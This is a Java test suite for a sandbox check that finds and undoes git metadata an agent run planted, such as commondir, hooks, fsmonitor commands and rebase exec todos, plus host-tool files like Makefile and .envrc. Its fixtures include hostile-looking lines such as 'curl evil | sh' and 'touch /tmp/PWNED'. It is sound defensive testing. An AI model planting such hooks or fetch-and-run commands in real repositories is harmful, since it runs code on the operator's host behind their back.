package dev.pushgate.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The end-of-run check on a real file system, with what an agent could leave behind. */
class GitMetadataCheckTest {
  private static final String DEFUSED = "; its HEAD is renamed HEAD.planted-by-run so that no"
      + " git takes it for a repository meanwhile";

  @TempDir Path tmp;
  private Path work;
  private Path git;

  @BeforeEach
  void repository() throws IOException {
    work = Files.createDirectories(tmp.toRealPath().resolve("work"));
    git = gitDir(work);
  }

  private static Path gitDir(Path worktree) throws IOException {
    Path g = Files.createDirectories(worktree.resolve(".git"));
    Files.createDirectories(g.resolve("objects"));
    Files.createDirectories(g.resolve("refs/heads"));
    Files.writeString(g.resolve("HEAD"), "ref: refs/heads/main\n");
    Files.writeString(g.resolve("config"), "[core]\n\trepositoryformatversion = 0\n");
    return g;
  }

  private GitMetadataCheck snapshot() {
    return GitMetadataCheck.snapshot(List.of(work));
  }

  @Test
  void nothingChangedReportsNothingAndTouchesNothing() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.writeString(git.resolve("index"), "changed by a commit");
    Files.createDirectories(work.resolve("new/.git"));
    assertThat(check.check()).isEmpty();
    assertThat(git.resolve("index")).hasContent("changed by a commit");
    assertThat(work.resolve("new/.git")).isDirectory();
  }

  @Test
  void aPlantedCommondirIsRemovedAndReported() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.writeString(git.resolve("commondir"), work.resolve("evil") + "\n");
    List<SandboxViolation> found = check.check();
    assertThat(found).singleElement().satisfies(v -> {
      assertThat(v.action()).isEqualTo("git-metadata");
      assertThat(v.target()).isEqualTo(git.resolve("commondir").toString());
      assertThat(v.raw()).isEqualTo(git.resolve("commondir") + ": planted during the run (git"
          + " would have taken the config and hooks of the directory it names); removed");
    });
    assertThat(git.resolve("commondir")).doesNotExist();
    assertThat(git.resolve("config")).exists();
  }

  @Test
  void aCommondirPlantedAsADirectoryOrALinkIsRemovedToo() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.createDirectories(git.resolve("commondir/inner"));
    assertThat(check.check()).hasSize(1);
    assertThat(git.resolve("commondir")).doesNotExist();

    GitMetadataCheck again = snapshot();
    Files.createSymbolicLink(git.resolve("commondir"), tmp.resolve("elsewhere"));
    assertThat(again.check()).hasSize(1);
    assertThat(Files.exists(git.resolve("commondir"), LinkOption.NOFOLLOW_LINKS)).isFalse();
  }

  @Test
  void aCommondirThatWasThereIsPutBackAsItWas() throws IOException {
    Files.writeString(git.resolve("commondir"), "../main/.git\n");
    GitMetadataCheck check = snapshot();
    Files.writeString(git.resolve("commondir"), "/evil\n");
    assertThat(check.check()).singleElement().satisfies(v ->
        assertThat(v.raw()).endsWith("commondir: changed during the run; put back as it was"));
    assertThat(git.resolve("commondir")).hasContent("../main/.git\n");
  }

  @Test
  void aGitFileOrLinkThatAppearedIsMovedAsideAndReported() throws IOException {
    Path plain = Files.createDirectories(tmp.resolve("plain"));
    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(plain));
    Files.writeString(plain.resolve(".git"), "gitdir: /evil\n");
    assertThat(check.check()).singleElement().satisfies(v -> {
      assertThat(v.target()).isEqualTo(plain.resolve(".git").toString());
      assertThat(v.raw()).contains("a .git file appeared during the run; moved to"
          + " .git.planted-by-run");
    });
    assertThat(plain.resolve(".git")).doesNotExist();
    assertThat(plain.resolve(".git.planted-by-run")).hasContent("gitdir: /evil\n");

    GitMetadataCheck again = GitMetadataCheck.snapshot(List.of(plain));
    Files.createSymbolicLink(plain.resolve(".git"), Path.of("/evil"));
    assertThat(again.check()).singleElement().satisfies(v ->
        assertThat(v.raw()).contains("a .git symlink appeared during the run; moved to"
            + " .git.planted-by-run-1"));
    assertThat(Files.exists(plain.resolve(".git"), LinkOption.NOFOLLOW_LINKS)).isFalse();
  }

  @Test
  void aRenamedGitDirectoryIsPutBackAndTheOneInItsPlaceMovedAside() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.move(git, work.resolve("old-git"));
    Path imposter = Files.createDirectories(work.resolve(".git"));
    Files.writeString(imposter.resolve("config"), "[core]\n\tfsmonitor = /evil\n");
    assertThat(check.check()).singleElement().satisfies(v ->
        assertThat(v.raw()).isEqualTo(git + ": the .git directory was replaced during the run;"
            + " the new one is moved to .git.planted-by-run; the original is back (it was at"
            + " old-git)"));
    assertThat(git.resolve("config")).hasContent("[core]\n\trepositoryformatversion = 0\n");
    assertThat(work.resolve(".git.planted-by-run/config")).hasContent(
        "[core]\n\tfsmonitor = /evil\n");
    assertThat(work.resolve("old-git")).doesNotExist();
  }

  @Test
  void aGitFileOfALinkedWorktreeThatWasChangedIsPutBack() throws IOException {
    Path linked = Files.createDirectories(tmp.resolve("linked"));
    Files.writeString(linked.resolve(".git"), "gitdir: /main/.git/worktrees/linked\n");
    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(linked));
    Files.writeString(linked.resolve(".git"), "gitdir: /evil\n");
    assertThat(check.check()).singleElement().satisfies(v ->
        assertThat(v.raw()).contains("the .git file was changed during the run; put back as it"
            + " was, the new one is moved to .git.planted-by-run"));
    assertThat(linked.resolve(".git")).hasContent("gitdir: /main/.git/worktrees/linked\n");
  }

  @Test
  void aRepositoryCreatedDuringTheRunThatWouldRunAProgramIsMovedAside() throws IOException {
    GitMetadataCheck check = snapshot();
    Path evil = gitDir(Files.createDirectories(work.resolve("evil")));
    Files.writeString(evil.resolve("config"), "[core]\n\tfsmonitor = /work/evil.sh\n"
        + "[remote \"origin\"]\n\turl = https://github.com/acme/widget.git\n");
    Path hooked = gitDir(Files.createDirectories(work.resolve("hooked")));
    Files.createDirectories(hooked.resolve("hooks"));
    Files.writeString(hooked.resolve("hooks/pre-commit.sample"), "#!/bin/sh\n");
    Files.writeString(hooked.resolve("hooks/post-checkout"), "#!/bin/sh\n");
    Path clean = gitDir(Files.createDirectories(work.resolve("clean")));
    Files.createDirectories(clean.resolve("hooks"));
    Files.writeString(clean.resolve("hooks/pre-commit.sample"), "#!/bin/sh\n");

    List<SandboxViolation> found = check.check();

    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        evil + ": a repository created during the run has what git on the host would run or"
            + " follow: core.fsmonitor; moved to .git.planted-by-run (look at it before moving"
            + " it back)" + DEFUSED,
        hooked + ": a repository created during the run has what git on the host would run or"
            + " follow: hooks/post-checkout; moved to .git.planted-by-run (look at it before"
            + " moving it back)" + DEFUSED);
    assertThat(evil).doesNotExist();
    assertThat(work.resolve("evil/.git.planted-by-run/config")).exists();
    assertThat(hooked).doesNotExist();
    assertThat(clean).isDirectory();
  }

  @Test
  void aRepositoryDirectlyInsideAWritableRootIsCheckedLikeTheRootsOwn() throws IOException {
    Path sub = gitDir(Files.createDirectories(work.resolve("widget")));
    Path fresh = Files.createDirectories(work.resolve("fresh"));
    GitMetadataCheck check = snapshot();
    Files.writeString(sub.resolve("commondir"), "/evil\n");
    Files.writeString(fresh.resolve(".git"), "gitdir: /evil\n");
    Path made = Files.createDirectories(work.resolve("made-during-the-run/.git"));
    Files.writeString(made.resolve("commondir"), "/evil\n");
    assertThat(check.check()).extracting(SandboxViolation::target).containsExactlyInAnyOrder(
        sub.resolve("commondir").toString(), fresh.resolve(".git").toString(),
        made.resolve("commondir").toString());
    assertThat(sub.resolve("commondir")).doesNotExist();
    assertThat(fresh.resolve(".git")).doesNotExist();
    assertThat(made.resolve("commondir")).doesNotExist();
  }

  @Test
  void aBareRepositoryPlantedAsAPlainDirectoryIsMovedAside() throws IOException {
    Path widget = Files.createDirectories(work.resolve("widget"));
    GitMetadataCheck check = snapshot();
    Path tools = bare(widget.resolve("tools"),
        "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch /tmp/PWNED; false\n");

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        tools + ": a repository created during the run has what git on the host would run or"
            + " follow: core.worktree, core.fsmonitor; moved to tools.planted-by-run (look at it"
            + " before moving it back)" + DEFUSED);
    assertThat(tools).doesNotExist();
    assertThat(widget.resolve("tools.planted-by-run/config")).exists();
    assertThat(widget.resolve("tools.planted-by-run/HEAD")).doesNotExist();
    assertThat(RepositoryWalk.isGitDirectory(widget.resolve("tools.planted-by-run"))).isFalse();
  }

  @Test
  void aGitFileOrDirectoryAnyLevelDeepIsCheckedLikeTheRootsOwn() throws IOException {
    Path deep = Files.createDirectories(work.resolve("s3/deep"));
    Path deeper = Files.createDirectories(work.resolve("a/b/c/d"));
    GitMetadataCheck check = snapshot();
    Files.writeString(deep.resolve(".git"), "gitdir: ../../.evil3\n");
    Path made = gitDir(deeper);
    Files.writeString(made.resolve("config"), "[core]\n\thooksPath = /evil\n");

    assertThat(check.check()).extracting(SandboxViolation::target).containsExactlyInAnyOrder(
        deep.resolve(".git").toString(), made.toString());
    assertThat(deep.resolve(".git")).doesNotExist();
    assertThat(deep.resolve(".git.planted-by-run")).hasContent("gitdir: ../../.evil3\n");
    assertThat(made).doesNotExist();
  }

  /**
   * Issue 30: git push -u stores a branch's upstream in the repository's config; the end-of-run
   * check keeps that change, judged as the name-deny layer judged the write (UpstreamConfigEdit),
   * and puts back one that also changes anything else.
   */
  @Test
  void aConfigChangedOnlyByAnUpstreamIsKeptAndAnyOtherChangePutBack() throws IOException {
    String cloned = "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n"
        + "\turl = https://github.com/acme/widget.git\n";
    String upstream = cloned + "[branch \"feature/x\"]\n\tremote = origin\n"
        + "\tmerge = refs/heads/feature/x\n";
    Path tracked = gitDir(Files.createDirectories(work.resolve("vendor/tracked")));
    Path tricked = gitDir(Files.createDirectories(work.resolve("vendor/tricked")));
    Files.writeString(tracked.resolve("config"), cloned);
    Files.writeString(tricked.resolve("config"), cloned);
    GitMetadataCheck check = snapshot();
    Files.writeString(tracked.resolve("config"), upstream);
    Files.writeString(tricked.resolve("config"), upstream + "[core]\n\tfsmonitor = /evil\n");

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        tricked.resolve("config") + ": changed during the run; put back as it was");
    assertThat(tracked.resolve("config")).hasContent(upstream);
    assertThat(tricked.resolve("config")).hasContent(cloned);
  }

  /**
   * An operator's config kept elsewhere through a link (a docs-only attack): replaced by the run,
   * the link is put back, not removed; left in place while the run wrote what it leads to (a
   * file of the worktree), the link is moved aside so that git on the host never reads it.
   */
  @Test
  void aConfigLinkedElsewhereIsPutBackOrMovedAsideWhenWhatItLeadsToChanged() throws IOException {
    Path lib = Files.createDirectories(work.resolve("vendor/lib"));
    Path deep = gitDir(lib);
    Files.delete(deep.resolve("config"));
    Files.writeString(lib.resolve("gitconfig-real"), "[core]\n\tbare = false\n");
    Files.createSymbolicLink(deep.resolve("config"), Path.of("../gitconfig-real"));
    GitMetadataCheck check = snapshot();
    Files.delete(deep.resolve("config"));
    Files.writeString(deep.resolve("config"), "[core]\n\tfsmonitor = /evil\n");
    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        deep.resolve("config") + ": changed during the run; put back as it was");
    assertThat(Files.readSymbolicLink(deep.resolve("config")))
        .isEqualTo(Path.of("../gitconfig-real"));

    GitMetadataCheck again = snapshot();
    Files.writeString(lib.resolve("gitconfig-real"), "[core]\n\tfsmonitor = /evil\n");
    assertThat(again.check()).extracting(SandboxViolation::raw).containsExactly(
        deep.resolve("config") + ": a link to ../gitconfig-real, whose file changed during the"
            + " run; the link is moved to config.planted-by-run (look at what it leads to before"
            + " moving it back)");
    assertThat(deep.resolve("config")).doesNotExist();
    assertThat(Files.isSymbolicLink(deep.resolve("config.planted-by-run"))).isTrue();
  }

  @Test
  void whatTheRunChangedInARepositoryThatWasThereIsPutBack() throws IOException {
    Path deep = gitDir(Files.createDirectories(work.resolve("vendor/lib")));
    Files.createDirectories(deep.resolve("hooks"));
    GitMetadataCheck check = snapshot();
    Files.writeString(deep.resolve("config"), "[core]\n\tfsmonitor = /evil\n");
    Files.createDirectories(deep.resolve("objects/info"));
    Files.writeString(deep.resolve("objects/info/alternates"), "/elsewhere/objects\n");
    Files.writeString(deep.resolve("hooks/post-checkout"), "#!/bin/sh\n");
    Files.createDirectories(git.resolve("objects/info"));
    Files.writeString(git.resolve("objects/info/alternates"), "/elsewhere/objects\n");

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        deep.resolve("config") + ": changed during the run; put back as it was",
        deep.resolve("objects/info/alternates") + ": changed during the run; put back as it was"
            + " (removed)",
        deep.resolve("hooks/post-checkout") + ": a hook added during the run; moved to"
            + " post-checkout.planted-by-run (git does not run it there)",
        git.resolve("objects/info/alternates") + ": changed during the run; put back as it was"
            + " (removed)");
    assertThat(deep.resolve("config")).hasContent("[core]\n\trepositoryformatversion = 0\n");
    assertThat(deep.resolve("objects/info/alternates")).doesNotExist();
    assertThat(git.resolve("objects/info/alternates")).doesNotExist();
    assertThat(deep.resolve("hooks/post-checkout")).doesNotExist();
  }

  @Test
  void aHookTheRunChangedInARepositoryThatWasThereIsMovedAsideWhateverItsName() throws IOException {
    Path r1 = repositoryWithHook(work.resolve("d/r1"));
    Path r5 = repositoryWithHook(work.resolve("d/r5"));
    Path r7 = repositoryWithHook(work.resolve("d/r7"));
    Files.writeString(r7.resolve("hooks/post-checkout"), "#!/bin/sh\necho op\n");
    Path untouched = repositoryWithHook(work.resolve("d/r0"));
    GitMetadataCheck check = snapshot();
    Files.writeString(r1.resolve("hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/PWN\n");
    Path script = Files.writeString(work.resolve("hl.sh"), "#!/bin/sh\ntouch /tmp/PWN\n");
    Files.delete(r5.resolve("hooks/pre-commit"));
    Files.createSymbolicLink(r5.resolve("hooks/pre-commit"), script);
    Files.setPosixFilePermissions(r7.resolve("hooks/post-checkout"),
        PosixFilePermissions.fromString("rwxr-xr-x"));

    String changed = ": a hook changed during the run (its bytes, its mode or what it is); moved to ";
    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        r1.resolve("hooks/pre-commit") + changed + "pre-commit.planted-by-run (git does not run"
            + " it there)",
        r5.resolve("hooks/pre-commit") + changed + "pre-commit.planted-by-run (git does not run"
            + " it there)",
        r7.resolve("hooks/post-checkout") + changed + "post-checkout.planted-by-run (git does not"
            + " run it there)");
    assertThat(r1.resolve("hooks/pre-commit")).doesNotExist();
    assertThat(Files.exists(r5.resolve("hooks/pre-commit"), LinkOption.NOFOLLOW_LINKS)).isFalse();
    assertThat(r7.resolve("hooks/post-checkout")).doesNotExist();
    assertThat(untouched.resolve("hooks/pre-commit")).hasContent("#!/bin/sh\necho operator\n");
  }

  @Test
  void aHookThatLinksToAScriptTheRunChangedIsMovedAsideAndTheScriptLeftAlone()
      throws IOException {
    Path deep = gitDir(Files.createDirectories(work.resolve("d/linked")));
    Path script = Files.writeString(Files.createDirectories(work.resolve("scripts"))
        .resolve("pre-commit"), "#!/bin/sh\necho operator\n");
    Files.createDirectories(deep.resolve("hooks"));
    Files.createSymbolicLink(deep.resolve("hooks/pre-commit"),
        Path.of("../../../../scripts/pre-commit"));
    GitMetadataCheck check = snapshot();
    Files.writeString(script, "#!/bin/sh\ntouch /tmp/PWN\n");

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        deep.resolve("hooks/pre-commit") + ": a hook changed during the run (its bytes, its mode"
            + " or what it is); moved to pre-commit.planted-by-run (git does not run it there)");
    assertThat(Files.exists(deep.resolve("hooks/pre-commit"), LinkOption.NOFOLLOW_LINKS))
        .isFalse();
    assertThat(script).exists();
  }

  /**
   * An operator's hooks kept elsewhere through a link (a docs-only attack: every run moved it
   * aside, and one the run replaced was never put back): left alone while it leads to the same
   * hooks, put back when replaced, moved aside when what it leads to changed.
   */
  @Test
  void anOperatorsHooksLinkIsKeptPutBackOrMovedAsideWhenItsHooksChanged() throws IOException {
    Path lib = Files.createDirectories(work.resolve("vendor/lib"));
    Path deep = gitDir(lib);
    Path shared = Files.createDirectories(lib.resolve("githooks"));
    Files.writeString(shared.resolve("pre-commit"), "#!/bin/sh\nmake lint\n");
    FileTrees.delete(deep.resolve("hooks"));
    Files.createSymbolicLink(deep.resolve("hooks"), Path.of("../githooks"));
    Path hooks = deep.resolve("hooks");

    assertThat(snapshot().check()).isEmpty();
    assertThat(Files.readSymbolicLink(hooks)).isEqualTo(Path.of("../githooks"));

    GitMetadataCheck replaced = snapshot();
    Files.delete(hooks);
    Files.createDirectories(hooks);
    Files.writeString(hooks.resolve("post-checkout"), "#!/bin/sh\n");
    assertThat(replaced.check()).extracting(SandboxViolation::raw).containsExactly(
        hooks + ": replaced during the run (the link to ../githooks it was is put back); moved"
            + " to hooks.planted-by-run (git does not run it there)");
    assertThat(Files.readSymbolicLink(hooks)).isEqualTo(Path.of("../githooks"));

    GitMetadataCheck written = snapshot();
    Files.writeString(shared.resolve("post-checkout"), "#!/bin/sh\ncurl evil | sh\n");
    assertThat(written.check()).extracting(SandboxViolation::raw).containsExactly(
        hooks + ": a link to ../githooks, whose hooks changed during the run; moved to"
            + " hooks.planted-by-run-1 (git does not run the hooks it leads to there)");
    assertThat(hooks).doesNotExist();
  }

  @Test
  void aHooksDirectorySwappedForALinkIsMovedAside() throws IOException {
    Path r2 = repositoryWithHook(work.resolve("d/r2"));
    GitMetadataCheck check = snapshot();
    Path mine = Files.createDirectories(work.resolve("myh"));
    Files.writeString(mine.resolve("pre-commit"), "#!/bin/sh\ntouch /tmp/PWN\n");
    Files.move(r2.resolve("hooks"), r2.resolve("hooks.old"));
    Files.createSymbolicLink(r2.resolve("hooks"), mine);

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        r2.resolve("hooks.old") + ": created during the run and not something git's ordinary"
            + " work leaves in a git directory; moved to hooks.old.planted-by-run (git does not"
            + " read it there)",
        r2.resolve("hooks") + ": not a directory after the run (a symlink or another file: git"
            + " would run the hooks of wherever it leads); moved to hooks.planted-by-run (git"
            + " does not read it there)");
    assertThat(Files.exists(r2.resolve("hooks"), LinkOption.NOFOLLOW_LINKS)).isFalse();
    assertThat(mine.resolve("pre-commit")).exists();
  }

  private static Path repositoryWithHook(Path worktree) throws IOException {
    Path g = gitDir(Files.createDirectories(worktree));
    Files.createDirectories(g.resolve("hooks"));
    Files.writeString(g.resolve("hooks/pre-commit"), "#!/bin/sh\necho operator\n");
    Files.setPosixFilePermissions(g.resolve("hooks/pre-commit"),
        PosixFilePermissions.fromString("rwxr-xr-x"));
    return g;
  }

  @Test
  void anEmptyPlaceholderBwrapLeftIsNotAChange() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.createDirectories(git.resolve("objects/info"));
    Files.createFile(git.resolve("objects/info/alternates"));
    Files.createFile(git.resolve("config.worktree"));
    Files.createDirectories(git.resolve("hooks"));
    assertThat(check.check()).isEmpty();
  }

  @Test
  void aWalkThatHitsItsBoundIsReportedWithWhatItDidNotCheck() throws IOException {
    for (int i = 0; i < 20; i++) {
      Files.createDirectories(work.resolve("many/d" + i));
    }
    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(work),
        new RepositoryWalk.Limits(10, java.time.Duration.ofSeconds(30)));
    assertThat(check.check()).anySatisfy(v -> {
      assertThat(v.action()).isEqualTo("git-metadata");
      assertThat(v.raw()).startsWith("not checked after the run: ")
          .contains("stopped after 10 entries").contains("before running git in or under it");
    });
  }

  @Test
  void aWalkExhaustedByABulkDirectoryStillFindsTheRepositoryBesideItAndNamesWhatItDidNotFinish()
      throws IOException {
    Path bulk = Files.createDirectories(work.resolve("!bulk"));
    Files.createDirectories(work.resolve("other/sub"));
    Files.createDirectories(work.resolve("planted"));
    RepositoryWalk.Limits limits = new RepositoryWalk.Limits(40, java.time.Duration.ofSeconds(30));
    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(work), limits);
    for (int i = 0; i < 100; i++) {
      Files.createLink(bulk.resolve("l" + i), git.resolve("HEAD"));
    }
    Files.writeString(work.resolve("planted/.git"), "gitdir: ../evil\n");

    List<String> raw = check.check().stream().map(SandboxViolation::raw).toList();

    assertThat(raw).contains(work.resolve("planted/.git") + ": a .git file appeared during the"
        + " run; moved to .git.planted-by-run (git would have used the repository it names)");
    assertThat(raw).anySatisfy(r -> assertThat(r).startsWith("not checked after the run: "
        + bulk + " (the walk stopped after 40 entries; bounds 40 entries, 30 s)"));
    assertThat(raw).noneSatisfy(r -> assertThat(r).contains("what the walk had not reached"));
  }

  @Test
  void aWalkThatStopsNamesEveryTopLevelDirectoryItDidNotFinishBounded() throws IOException {
    for (int i = 0; i < 30; i++) {
      Files.createDirectories(work.resolve("d" + i + "/inner"));
    }
    RepositoryWalk.Found found =
        RepositoryWalk.walk(List.of(work), new RepositoryWalk.Limits(40,
            java.time.Duration.ofSeconds(30)));

    assertThat(found.unchecked()).hasSize(RepositoryWalk.MAX_NAMED + 1);
    assertThat(found.unchecked().subList(0, RepositoryWalk.MAX_NAMED))
        .allSatisfy(u -> assertThat(u).startsWith(work + "/"));
    assertThat(found.unchecked().get(RepositoryWalk.MAX_NAMED)).endsWith(
        " more directories directly in " + work + " (not walked to the end)");
  }

  @Test
  void theWalkNeitherFollowsSymlinksNorEntersObjects() throws IOException {
    Path outside = Files.createDirectories(tmp.toRealPath().resolve("outside"));
    gitDir(outside);
    Files.createSymbolicLink(work.resolve("link"), outside);
    Path packed = Files.createDirectories(git.resolve("objects/pack/x/.git"));
    RepositoryWalk.Found found =
        RepositoryWalk.walk(List.of(work), RepositoryWalk.Limits.DEFAULT);
    assertThat(found.dotGits()).containsExactly(git);
    assertThat(found.gitDirectories()).containsExactly(git);
    assertThat(found.unchecked()).isEmpty();
    assertThat(packed).isDirectory();
  }

  /** What the check reports for {@code name}, an operation the run left in {@code gitDir}. */
  private static String leftInProgress(Path gitDir, String name) {
    return gitDir.resolve(name) + ": an operation in progress left by the run (git would resume"
        + " or conclude it: --continue, commit, bisect); moved to " + name + ".planted-by-run (git"
        + " does not read it there)";
  }

  /** What {@code git rebase -i} leaves in a git directory, with an {@code exec} in its todo. */
  private static Path interactiveRebase(Path gitDir) throws IOException {
    Path state = Files.createDirectories(gitDir.resolve("rebase-merge"));
    Files.writeString(state.resolve("head-name"), "refs/heads/main\n");
    Files.writeString(state.resolve("interactive"), "");
    Files.writeString(state.resolve("git-rebase-todo"), "exec sh -c 'touch /tmp/pwned'\n");
    return state;
  }

  @Test
  void everyOperationTheRunLeftInProgressIsMovedAsideInEveryRepository() throws IOException {
    Path nested = gitDir(Files.createDirectories(work.resolve("vendor/deep/lib")));
    GitMetadataCheck check = snapshot();
    interactiveRebase(git);
    interactiveRebase(nested);
    Files.createDirectories(git.resolve("rebase-apply"));
    Files.writeString(git.resolve("rebase-apply/applying"), "");
    Files.createDirectories(nested.resolve("sequencer"));
    Files.writeString(nested.resolve("sequencer/todo"), "pick 1234 x\n");
    Files.writeString(nested.resolve("CHERRY_PICK_HEAD"), "1234\n");
    Files.writeString(git.resolve("MERGE_HEAD"), "1234\n");
    Files.writeString(git.resolve("BISECT_RUN"), "sh -c evil\n");

    List<SandboxViolation> found = check.check();

    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        leftInProgress(git, "BISECT_RUN"),
        leftInProgress(git, "MERGE_HEAD"),
        leftInProgress(git, "rebase-apply"),
        leftInProgress(git, "rebase-merge"),
        leftInProgress(nested, "CHERRY_PICK_HEAD"),
        leftInProgress(nested, "rebase-merge"),
        leftInProgress(nested, "sequencer"));
    assertThat(found).allSatisfy(v -> assertThat(v.action()).isEqualTo("git-metadata"));
    for (Path dir : List.of(git, nested)) {
      assertThat(dir.resolve("rebase-merge")).doesNotExist();
      assertThat(dir.resolve("rebase-merge.planted-by-run/git-rebase-todo"))
          .hasContent("exec sh -c 'touch /tmp/pwned'\n");
    }
    assertThat(git.resolve("rebase-apply")).doesNotExist();
    assertThat(nested.resolve("sequencer")).doesNotExist();
  }

  @Test
  void anOperationInProgressBeforeTheRunStaysUnlessTheRunChangedIt() throws IOException {
    interactiveRebase(git);
    Path nested = gitDir(Files.createDirectories(work.resolve("vendor/deep/lib")));
    interactiveRebase(nested);
    GitMetadataCheck check = snapshot();
    Files.writeString(nested.resolve("rebase-merge/git-rebase-todo"), "exec evil\n");

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        leftInProgress(nested, "rebase-merge"));
    assertThat(git.resolve("rebase-merge/git-rebase-todo"))
        .hasContent("exec sh -c 'touch /tmp/pwned'\n");
    assertThat(nested.resolve("rebase-merge")).doesNotExist();
  }

  @Test
  void aLinkPlantedAsAnOperationIsMovedItselfAndWhatItNamesIsLeftAlone() throws IOException {
    Path elsewhere = Files.createDirectories(tmp.resolve("elsewhere"));
    Files.writeString(elsewhere.resolve("keep"), "operator's");
    GitMetadataCheck check = snapshot();
    Files.createSymbolicLink(git.resolve("rebase-merge"), elsewhere);

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        leftInProgress(git, "rebase-merge"));
    assertThat(Files.exists(git.resolve("rebase-merge"), LinkOption.NOFOLLOW_LINKS)).isFalse();
    assertThat(Files.isSymbolicLink(git.resolve("rebase-merge.planted-by-run"))).isTrue();
    assertThat(elsewhere.resolve("keep")).hasContent("operator's");
  }

  @Test
  void whatOrdinaryWorkLeavesStaysAndAnyOtherNewEntryIsMovedAside() throws IOException {
    GitMetadataCheck check = snapshot();
    for (String name : List.of("ORIG_HEAD", "FETCH_HEAD", "packed-refs", "COMMIT_EDITMSG",
        "index", "index.lock", "description", "sharedindex.0123")) {
      Files.writeString(git.resolve(name), "x\n");
    }
    Files.createDirectories(git.resolve("logs/refs/heads"));
    Files.createDirectories(git.resolve("rr-cache/0123"));

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        git.resolve("rr-cache") + ": created during the run and not something git's ordinary"
            + " work leaves in a git directory; moved to rr-cache.planted-by-run (git does not"
            + " read it there)");
    assertThat(git.resolve("ORIG_HEAD")).exists();
    assertThat(git.resolve("index.lock")).exists();
    assertThat(git.resolve("logs/refs/heads")).isDirectory();
  }

  @Test
  void anOperationLeftInARepositoryTheRunCreatedIsMovedAsideToo() throws IOException {
    GitMetadataCheck check = snapshot();
    Path made = gitDir(Files.createDirectories(work.resolve("made")));
    interactiveRebase(made);

    assertThat(check.check()).extracting(SandboxViolation::raw).containsExactly(
        leftInProgress(made, "rebase-merge"));
    assertThat(made.resolve("HEAD")).exists();
  }

  @Test
  void whatAHostToolRunsThatTheRunCreatedOrChangedIsReportedAndLeftInPlace() throws IOException {
    Files.writeString(work.resolve("Makefile"), "all:\n\ttrue\n");
    Files.createDirectories(work.resolve(".idea"));
    Files.writeString(work.resolve(".idea/workspace.xml"), "<project/>");
    Path lib = Files.createDirectories(work.resolve("vendor/deep/lib"));
    gitDir(lib);
    GitMetadataCheck check = snapshot();
    Files.writeString(work.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
    Files.writeString(work.resolve(".envrc"), "curl evil | sh\n");
    Files.createDirectories(work.resolve(".vscode"));
    Files.writeString(work.resolve(".vscode/tasks.json"), "{\"runOn\": \"folderOpen\"}");
    Files.writeString(lib.resolve(".pre-commit-config.yaml"), "repos: []\n");
    Files.writeString(work.resolve("README.md"), "not run by anything\n");

    List<SandboxViolation> found = check.check();

    assertThat(found).allSatisfy(v -> assertThat(v.action()).isEqualTo("host-tool-file"));
    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
        work.resolve(".envrc") + ": created during the run; direnv runs it on entering the"
            + " directory, once allowed: look at it before using that tool here",
        work.resolve(".vscode") + ": created during the run; VS Code runs its tasks (runOn"
            + " folderOpen) and takes its settings in a trusted folder: look at it before using"
            + " that tool here",
        work.resolve("Makefile") + ": changed during the run; make runs it: look at it before"
            + " using that tool here",
        lib.resolve(".pre-commit-config.yaml") + ": created during the run; pre-commit runs the"
            + " hooks it names at the next commit where pre-commit is installed: look at it"
            + " before using that tool here");
    assertThat(found).allSatisfy(v -> assertThat(v.endOfRun()).isTrue());
    assertThat(work.resolve(".envrc")).exists();
  }

  @Test
  void theEditorTaskRunnerAndAgentFilesOfIssue29AreReportedWhenTheRunCreatesThem()
      throws IOException {
    GitMetadataCheck check = snapshot();
    List<String> names = List.of(".vimrc", ".gvimrc", "_vimrc", ".nvimrc", ".mise/config.toml",
        ".config/mise.toml", ".config/mise/config.toml", "mise.toml", ".mise.toml",
        ".gemini/settings.json", "Justfile", "justfile", ".justfile", "Taskfile.yml",
        "Taskfile.yaml", "Rakefile", ".zed/tasks.json");
    for (String name : names) {
      Files.createDirectories(work.resolve(name).getParent());
      Files.writeString(work.resolve(name), "run evil\n");
    }

    List<String> reported = check.check().stream().map(SandboxViolation::target).toList();

    for (String name : names) {
      Path entry = work.resolve(name);
      assertThat(reported).as(name).anyMatch(t -> entry.startsWith(Path.of(t)));
    }
  }

  @Test
  void aRootThatWasEmptyAtLaunchIsTheRunsOwnAndNotReportedOn() throws IOException {
    Path clone = Files.createDirectories(tmp.resolve("clone"));
    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(clone));
    gitDir(clone);
    Files.writeString(clone.resolve("Makefile"), "all:\n");

    assertThat(check.check()).isEmpty();
  }

  @Test
  void aPlaceholderThatHoldsNoByteIsNotReportedAndAMergesAutoMergeStays() throws IOException {
    GitMetadataCheck check = snapshot();
    Files.createDirectories(work.resolve(".idea"));
    Files.createDirectories(work.resolve(".claude/hooks"));
    Files.writeString(work.resolve(".claude/settings.json"), "");
